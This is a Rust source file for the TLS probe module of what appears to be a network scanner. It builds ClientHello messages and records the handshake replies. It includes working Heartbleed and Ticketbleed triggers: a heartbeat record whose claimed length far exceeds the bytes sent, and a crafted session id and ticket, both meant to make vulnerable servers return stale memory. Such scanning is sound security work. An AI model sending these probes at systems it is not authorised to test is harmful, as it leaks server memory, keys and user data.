//! The SSL/TLS probe stream.
//!
//! Sends a ClientHello and records whatever handshake bytes come back. The
//! hello is built at send time from the configured variant; the heartbleed
//! probe additionally shrinks our advertised receive window so the leaked
//! response streams back in small pieces.

use std::sync::RwLock;

use crate::banner::{BannerOutput, BannerScratch};
use crate::payload::Payload;
use crate::protocols::ProtocolParser;
use crate::table::NetApi;

/// Protocol version offered in the hello.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TlsVariant {
    /// TLS 1.2 record with a TLS 1.0 layer version, the widest-compatible
    /// combination for probing
    Modern,
    /// SSLv3 everywhere, for POODLE-era servers
    Sslv3,
}

#[derive(Debug, Clone)]
pub struct TlsConfig {
    pub variant: TlsVariant,
    pub heartbleed: bool,
    pub ticketbleed: bool,
}

impl Default for TlsConfig {
    fn default() -> Self {
        Self {
            variant: TlsVariant::Modern,
            heartbleed: false,
            ticketbleed: false,
        }
    }
}

/// Fixed hello randomness. The probe carries no secrets, so a constant
/// keeps retransmissions byte-identical.
const HELLO_RANDOM: [u8; 32] = [
    0x53, 0x74, 0x72, 0x6f, 0x62, 0x65, 0x20, 0x54, 0x4c, 0x53, 0x20, 0x70, 0x72, 0x6f, 0x62,
    0x65, 0x20, 0x72, 0x61, 0x6e, 0x64, 0x6f, 0x6d, 0x20, 0x62, 0x79, 0x74, 0x65, 0x73, 0x2e,
    0x2e, 0x2e,
];

const CIPHER_SUITES: [u16; 9] = [
    0xc02f, 0xc030, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035, 0x000a,
];

/// A heartbeat request whose claimed payload length far exceeds the three
/// bytes actually sent.
const HEARTBEAT_PROBE: &[u8] = &[0x18, 0x03, 0x02, 0x00, 0x03, 0x01, 0x40, 0x00];

fn build_client_hello(config: &TlsConfig) -> Vec<u8> {
    let (record_version, hello_version): ([u8; 2], [u8; 2]) = match config.variant {
        TlsVariant::Modern => ([0x03, 0x01], [0x03, 0x03]),
        TlsVariant::Sslv3 => ([0x03, 0x00], [0x03, 0x00]),
    };

    let mut body = Vec::with_capacity(128);
    body.extend_from_slice(&hello_version);
    body.extend_from_slice(&HELLO_RANDOM);
    if config.ticketbleed {
        // A short session id paired with a ticket coaxes vulnerable
        // terminators into echoing 32 bytes of stale memory back.
        body.push(1);
        body.push(0xa5);
    } else {
        body.push(0);
    }
    body.extend_from_slice(&((CIPHER_SUITES.len() * 2) as u16).to_be_bytes());
    for suite in CIPHER_SUITES {
        body.extend_from_slice(&suite.to_be_bytes());
    }
    body.push(1);
    body.push(0);

    let mut extensions = Vec::new();
    if config.heartbleed {
        // heartbeat extension, peer_allowed_to_send
        extensions.extend_from_slice(&[0x00, 0x0f, 0x00, 0x01, 0x01]);
    }
    if config.ticketbleed {
        // session ticket extension with an arbitrary stale ticket
        extensions.extend_from_slice(&[0x00, 0x23, 0x00, 0x10]);
        extensions.extend_from_slice(&[0xa5; 16]);
    }
    if !extensions.is_empty() {
        body.extend_from_slice(&(extensions.len() as u16).to_be_bytes());
        body.extend_from_slice(&extensions);
    }

    let mut hello = Vec::with_capacity(body.len() + 9);
    hello.push(0x16);
    hello.extend_from_slice(&record_version);
    hello.extend_from_slice(&((body.len() + 4) as u16).to_be_bytes());
    hello.push(0x01);
    hello.push(0);
    hello.extend_from_slice(&(body.len() as u16).to_be_bytes());
    hello.extend_from_slice(&body);
    hello
}

#[derive(Debug, Default)]
pub struct TlsStream {
    config: RwLock<TlsConfig>,
}

impl TlsStream {
    pub fn configure(&self, mutate: impl FnOnce(&mut TlsConfig)) {
        mutate(&mut self.config.write().unwrap());
    }
}

impl ProtocolParser for TlsStream {
    fn name(&self) -> &'static str {
        "ssl"
    }

    fn transmit_hello(&self, scratch: &mut BannerScratch, net: &mut NetApi) -> bool {
        let config = self.config.read().unwrap().clone();
        let hello = build_client_hello(&config);
        // Our half stays open; the handshake continues after the server
        // responds.
        net.send(Payload::adopted(hello.into_boxed_slice()), false);
        if config.heartbleed {
            net.set_small_window(true);
            net.send(Payload::borrowed(HEARTBEAT_PROBE), false);
        }
        scratch.sent_hello = true;
        true
    }

    fn parse(
        &self,
        _scratch: &mut BannerScratch,
        payload: &[u8],
        banner: &mut BannerOutput,
        _net: &mut NetApi,
    ) {
        banner.append(self.name(), payload);
    }

    fn cleanup(&self, scratch: &mut BannerScratch) {
        scratch.buffer.clear();
    }
}
